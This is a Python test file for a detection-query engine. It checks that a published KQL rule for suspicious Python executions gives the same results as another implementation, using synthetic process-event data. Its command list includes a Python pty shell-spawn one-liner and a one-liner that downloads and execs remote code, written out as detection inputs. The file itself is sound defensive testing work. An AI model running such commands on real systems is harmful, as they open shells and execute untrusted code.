"""The published detection beside duckdb-kql, another implementation, where that one is installed."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from pathlib import Path

import pyarrow as pa
import pytest

from antivenom import engine
from antivenom.languages import kql
from antivenom.plan.catalog import Catalog
from antivenom.source import SourceText
from antivenom.tables import Column, ColumnType, Schema

CASE = "the-published-query-for-python-executions-runs-as-published"
QUERY = Path(__file__).parent / "cases" / "kql" / CASE / "query.kql"
COMMANDS = [
    "python3 -c 'import socket,pty;pty.spawn(\"/bin/sh\")'",
    "python3 /usr/bin/shutdown",
    "python -c \"import urllib.request as r;exec(r.urlopen('http://x/').read())\"",
    "python -c 'reimport sockets'",
    "python -c 'myexec(1)'",
    "python -m http.server",
    "python -c 'IMPORT SOCKET'",
    "python3 x.py --shell /bin/bash2",
    "python3 -c 'import  socket'",
    "python a_exec(b)",
    "py2exe setup.py",
    "",
]
FILES = ["python.exe", "Python3", "pythonw.exe", "python3.11", "bash", "PYTHON"]


def _table(now: datetime) -> pa.Table:
    rows = [(file, command, hours) for file in FILES for command in COMMANDS for hours in (1, 23, 25)]
    text = {
        name: [f"{name}{i % 3}" for i in range(len(rows))]
        for name in ("DeviceName", "AccountName", "InitiatingProcessFileName", "InitiatingProcessCommandLine")
    }
    times = [now - timedelta(hours=hours, seconds=i) for i, (_, _, hours) in enumerate(rows)]
    return pa.table(
        {
            "Timestamp": pa.array(times, pa.timestamp("us")),
            "DeviceName": text["DeviceName"],
            "AccountName": text["AccountName"],
            "FileName": [row[0] for row in rows],
            "ProcessCommandLine": [row[1] for row in rows],
            "InitiatingProcessFileName": text["InitiatingProcessFileName"],
            "InitiatingProcessCommandLine": text["InitiatingProcessCommandLine"],
        }
    )


def test_the_published_query_gives_the_same_rows() -> None:
    duckdb_kql = pytest.importorskip("duckdb_kql")
    duckdb = pytest.importorskip("duckdb")
    now = datetime.now(UTC).replace(tzinfo=None, microsecond=0)
    table, text = _table(now), QUERY.read_text(encoding="utf-8")
    connection = duckdb.connect()
    connection.register("DeviceProcessEvents", table)
    theirs = duckdb_kql.kql(connection, text).fetchall()
    columns = tuple(
        Column(f.name, ColumnType.DATETIME if f.name == "Timestamp" else ColumnType.STRING) for f in table.schema
    )
    plan = kql.compile(SourceText(text), Catalog({"DeviceProcessEvents": Schema("DeviceProcessEvents", columns)}))
    clock = int(now.replace(tzinfo=UTC).timestamp()) * 10**9
    ours = engine.run(plan, {"DeviceProcessEvents": table}, clock)
    times = ours.column(0).cast(pa.timestamp("us")).to_pylist()
    others = zip(*(column.to_pylist() for column in ours.columns[1:]), strict=True)
    rows = [(time, *row) for time, row in zip(times, others, strict=True)]
    assert rows == [tuple(row) for row in theirs]
    assert len(rows) > 20
